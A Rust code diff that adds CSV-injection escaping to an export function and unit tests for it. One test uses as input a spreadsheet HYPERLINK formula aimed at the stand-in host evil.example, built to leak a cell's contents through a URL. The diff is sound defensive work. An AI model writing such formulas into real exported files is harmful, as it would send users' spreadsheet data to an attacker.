@@ -197,7 +197,15 @@ pub fn to_csv(rows: &[ExportRow]) -> String {
     out
 }
 
+/// One CSV field, quoted when it must be. A text that a spreadsheet would read as a
+/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`,
+/// the usual defence against CSV injection.
 fn csv_field(text: &str) -> String {
+    let text = &if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
@@ -413,6 +421,22 @@ mod view_tests {
             csv.starts_with("kind,id,country,date,text,detail,uncertainty,sources,publishers\r\n")
         );
         assert!(csv.contains("Türkiye Today"));
+    }
+
+    #[test]
+    fn formulas_are_not_written_as_formulas() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")"),
+            "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\""
+        );
+        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(
+                csv_field(start).trim_start_matches('"').starts_with('\''),
+                "{start:?}"
+            );
+        }
+        assert_eq!(csv_field("2025-12"), "2025-12");
+        assert_eq!(csv_field("Ankara"), "Ankara");
     }
 
     #[test]
